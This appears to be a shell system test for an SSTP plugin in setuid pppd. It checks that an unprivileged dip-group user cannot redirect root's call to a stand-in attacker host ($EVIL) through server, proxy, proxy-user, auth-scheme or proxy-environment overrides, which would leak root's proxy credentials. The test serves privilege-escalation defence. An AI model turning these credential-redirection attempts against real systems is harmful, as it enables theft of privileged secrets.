# Debian's pppd is setuid root: a user in group dip runs it with root's peers
# files and secrets. As such a user (uid nobody, group dip, AS_USER in
# lib.sh) try to redirect root's call: another server, another proxy, proxy
# user, proxy auth scheme, and https_proxy/all_proxy/no_proxy under
# "sstp-proxy env". Every attempt must end with exit 2 before anything is
# sent, and the wrong server and proxy (endpoint-recorder.py) see nothing.
# Controls: the same user's plain call goes through squid with root's proxy
# credentials and comes up; root's same overrides do reach the recorder.
# Also: the pty slave is 0600 while the call is up, sstp-crl-file with
# sstp-cert-pin-only and a group-readable proxy password file are refused,
# and the helper stops within a second when pppd is killed during setup.
#
# SSTP_SURVEY=1 (for comparing builds) runs every attempt and prints its
# RESULT line without asserting the outcome of the user's attempts.
. "$top_srcdir/tests/system/lib.sh"
SURVEY=${SSTP_SURVEY:-0}
prepare_proxy_sstp
require_setuid_pppd
start_server --hash sha256 --expect-host sstp.test
start_squid both
write_proxy_password_file /etc/ppp/proxy-secret "$PROXY_PASSWORD"
start_recorder
EVIL=$RECORDER_IP4
creds=(sstp-proxy-user "$PROXY_USER" sstp-proxy-password-file /etc/ppp/proxy-secret
    sstp-connect-timeout 15)
write_peers work sstp-proxy http://proxy.test:3128 "${creds[@]}"
write_peers work-env sstp-proxy env "${creds[@]}"

# attempt WHO NAME [pppd options...]: pppd call NAME [options] as WHO (root
# or user) with CLIENT_ENV; waits for pppd to exit, or SIGTERMs it once the
# client log matches $UNTIL or after 40 s. Prints a RESULT line with what
# reached the recorder and squid (NEW_RECORDER, NEW_SQUID).
attempt() {
    local who=$1 name=$2 rec0 sq0 why
    shift 2
    rec0=$(wc -l <"$RECORDER_LOG")
    sq0=$(wc -l <"$PROXY_ACCESS_LOG")
    : >"$CLIENT_OUT"
    : >"$CLIENT_LOG"
    RUN_AS=$who run_client "$name" "$@"
    if ! wait_until 40 _attempt_over; then
        :
    fi
    if [ -n "$CLIENT_PID" ] && kill -0 "$CLIENT_PID" 2>/dev/null; then
        stop_client 20
    else
        wait_client_exit 1
    fi
    sleep 0.5 # squid logs a tunnel when it closes
    NEW_RECORDER=$(tail -n +$((rec0 + 1)) "$RECORDER_LOG" | sed 's/^/  /')
    NEW_SQUID=$(tail -n +$((sq0 + 1)) "$PROXY_ACCESS_LOG" | cut -d' ' -f3- | sed 's/^/  /')
    why=$(grep -h -m1 -E 'privilege|overridden|cannot be used|^sstp: |refusing' \
        "$CLIENT_OUT" "$CLIENT_LOG" 2>/dev/null | head -n 1 || true)
    echo "RESULT: $who: ${CLIENT_ENV:+$CLIENT_ENV }pppd call $name${*:+ $*} -> exit $CLIENT_RC"
    echo "  pppd: ${why:-(nothing)}"
    _show_new recorder "$NEW_RECORDER"
    _show_new squid "$NEW_SQUID"
    ATTEMPT=$((${ATTEMPT:-0} + 1))
    cp "$CLIENT_OUT" "$LOGDIR/attempt-$ATTEMPT.stdout"
    cp "$CLIENT_LOG" "$LOGDIR/attempt-$ATTEMPT.log"
}
_show_new() { # _show_new WHAT LINES
    if [ -n "$2" ]; then printf '  %s:\n%s\n' "$1" "$2"; else echo "  $1: nothing"; fi
}
_attempt_over() {
    ! kill -0 "$CLIENT_PID" 2>/dev/null ||
        { [ -n "${UNTIL:-}" ] && grep -q -E -e "$UNTIL" "$CLIENT_LOG"; }
}

# refused ERE: the user's attempt ended with exit 2 and a message matching
# ERE on pppd's stderr, and neither the recorder nor squid saw anything.
refused() {
    [ "$SURVEY" = 0 ] || return 0
    assert_client_rc 2
    assert_log "$CLIENT_OUT" "$1"
    [ -z "$NEW_RECORDER" ] || fail "the recorder was reached:$NEW_RECORDER"
    [ -z "$NEW_SQUID" ] || fail "squid was asked:$NEW_SQUID"
    pass "neither the recorder nor squid saw anything"
}

# recorded ERE: the recorder saw a line matching ERE (root's override took effect).
recorded() {
    [[ $NEW_RECORDER =~ $1 ]] || fail "the recorder did not see /$1/:${NEW_RECORDER:- nothing}"
    pass "the recorder saw /$1/"
}

PRIV='requires root privilege'
LEAK='PROXY-REQUEST from [0-9.]+ CONNECT sstp\.test:443 auth=Basic user=proxyuser password=configured'

# --- control: the ordinary user's plain call, through squid with root's credentials
: >"$CLIENT_LOG"
RUN_AS=user run_client work
wait_ip_up 40
assert_log "$SERVER_LOG" 'VERDICT call-connected OK' 10
ping_both_ways
pty=$(sed -n 's/.*Connect: ppp0 <--> \(\/dev\/pts\/[0-9]*\).*/\1/p' "$CLIENT_LOG" | head -n 1)
[ -c "$pty" ] || fail "no pty in the client log's Connect line"
mode=$(stat -c '%a %U:%G' "$pty")
open_err=$("${AS_USER[@]}" sh -c "exec 3>$pty" 2>&1 || true)
echo "RESULT: pty slave $pty while the call is up: mode $mode; the user's open: ${open_err:-succeeded}"
if [ "$SURVEY" = 0 ]; then
    [ "${mode%% *}" = 600 ] || fail "pty slave $pty has mode $mode, not 600"
    pass "pty slave $pty has mode $mode"
    [[ $open_err == *"Permission denied"* ]] || fail "the user's open of $pty: ${open_err:-succeeded}"
    pass "the user cannot open $pty: $open_err"
fi
stop_client 20
assert_client_rc 5
# squid logs a tunnel when it closes
assert_log "$PROXY_ACCESS_LOG" " TCP_TUNNEL/200 CONNECT sstp\.test:443 user=$PROXY_USER " 15
cp "$CLIENT_LOG" "$LOGDIR/client-pppd-user-call.log"

# --- another server
attempt user work sstp-server $EVIL
refused "sstp-server option $PRIV"
attempt root work sstp-server $EVIL
recorded 'SERVER-CONNECT from [0-9.]+ first-byte=0x16'

# --- another proxy
attempt user work sstp-proxy http://$EVIL:3128
refused "sstp-proxy option $PRIV"
attempt root work sstp-proxy http://$EVIL:3128
recorded "$LEAK"

# --- another proxy user (root's password sent for it)
attempt user work sstp-proxy-user mallory
refused "sstp-proxy-user option $PRIV"
attempt root work sstp-proxy-user mallory
[[ $NEW_SQUID == *"user=mallory"* ]] || fail "squid did not see user mallory:${NEW_SQUID:- nothing}"
pass "squid saw user mallory"

# --- a weaker proxy auth scheme (Basic: the password in clear text)
UNTIL='proxy authentication: '
attempt user work sstp-proxy-auth basic
refused "sstp-proxy-auth option $PRIV"
attempt root work sstp-proxy-auth basic
assert_log "$CLIENT_LOG" 'open through proxy http://proxy\.test:3128 \(proxy authentication: Basic\)'
UNTIL=

# --- an option the user may set, but not against root's value (OPT_PRIVFIX)
attempt user work sstp-connect-timeout 7
refused "sstp-connect-timeout option set in /etc/ppp/peers/work cannot be overridden"
# ... and where root did not set it, the user's value applies (a server
# that accepts TCP and never answers TLS)
write_peers silent --server $EVIL:8443
attempt user silent sstp-connect-timeout 2
if [ "$SURVEY" = 0 ]; then
    assert_client_rc 8
    assert_log "$CLIENT_LOG" "TLS handshake with ${EVIL//./\\.} timed out after 2 ?s"
fi

# --- sstp-proxy env: the invoking user's environment
ENV_REFUSED='sstp-proxy env cannot be used when pppd runs setuid'
for var in https_proxy all_proxy; do
    CLIENT_ENV="$var=http://$EVIL:3128"
    attempt user work-env
    refused "$ENV_REFUSED"
    attempt root work-env
    recorded "$LEAK"
done
CLIENT_ENV="https_proxy=http://proxy.test:3128 no_proxy=sstp.test"
UNTIL='no_proxy covers'
attempt user work-env
refused "$ENV_REFUSED"
attempt root work-env
assert_log "$CLIENT_LOG" 'sstp-proxy env: no_proxy covers sstp\.test; connecting directly'
CLIENT_ENV=
UNTIL=

# --- smaller holes, as root
write_crl() {
    printf 'crl_next_update = 30\ncrl_number = 1\n' >"$CERTDIR/crl.tmpl"
    _certtool --generate-crl --load-ca-privkey "$CERTDIR/ca-key.pem" \
        --load-ca-certificate "$CA_CERT" --template "$CERTDIR/crl.tmpl" --outfile "$1"
}
write_crl /etc/ppp/test.crl
write_peers pinonly sstp-cert-pin sha256:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA= \
    sstp-cert-pin-only sstp-crl-file /etc/ppp/test.crl
attempt root pinonly
if [ "$SURVEY" = 0 ]; then
    assert_client_rc 2
    assert_log "$CLIENT_OUT" 'sstp: sstp-crl-file cannot be used with sstp-cert-pin-only'
fi

write_proxy_password_file /etc/ppp/proxy-secret-g "$PROXY_PASSWORD"
chmod 640 /etc/ppp/proxy-secret-g
write_peers groupread sstp-proxy http://proxy.test:3128 sstp-proxy-user "$PROXY_USER" \
    sstp-proxy-password-file /etc/ppp/proxy-secret-g
attempt root groupread
if [ "$SURVEY" = 0 ]; then
    assert_client_rc 2
    assert_log "$CLIENT_OUT" 'refusing /etc/ppp/proxy-secret-g: it must be owned by root and readable by root alone \(chown root /etc/ppp/proxy-secret-g; chmod 600 /etc/ppp/proxy-secret-g\)'
fi

# --- pppd killed during setup: the helper must not carry on alone
write_peers silent --server $EVIL:8443 sstp-connect-timeout 30
: >"$CLIENT_LOG"
silent_before=$(count_log "$RECORDER_LOG" 'SILENT-CONNECT')
RUN_AS=user run_client silent
wait_for_log "$RECORDER_LOG" 'SILENT-CONNECT' 20 $((silent_before + 1)) ||
    fail "the helper never reached $EVIL:8443"
helper=$(pgrep -x pppd | grep -v -x "$CLIENT_PID" | head -n 1 || true)
[ -n "$helper" ] || fail "no helper process next to pppd $CLIENT_PID"
note "pppd $CLIENT_PID, helper $helper in the TLS handshake with a server that never answers"
kill -KILL "$CLIENT_PID"
t0=$(date +%s%N)
wait "$CLIENT_PID" 2>/dev/null || true
CLIENT_PID=
gone_ms=
# A zombie counts as gone: PID 1 in UML may reap it late.
alive() { [ -r "/proc/$1/stat" ] && [ "$(cut -d' ' -f3 "/proc/$1/stat" 2>/dev/null)" != Z ]; }
for _ in $(seq 1 400); do
    if ! alive "$helper"; then
        gone_ms=$((($(date +%s%N) - t0) / 1000000))
        break
    fi
    sleep 0.1
done
echo "RESULT: helper after kill -9 of pppd during setup: ${gone_ms:+gone after $gone_ms ms}$([ -n "$gone_ms" ] || echo "still running after 40 s")"
[ -n "$gone_ms" ] && [ "$gone_ms" -le 1000 ] ||
    fail "the helper outlived pppd by ${gone_ms:-more than 40000} ms"
pass "the helper ended ${gone_ms} ms after pppd was killed"

assert_no_secret "$PROXY_PASSWORD"
IGNORE_SERVER=1 assert_no_leftovers 10
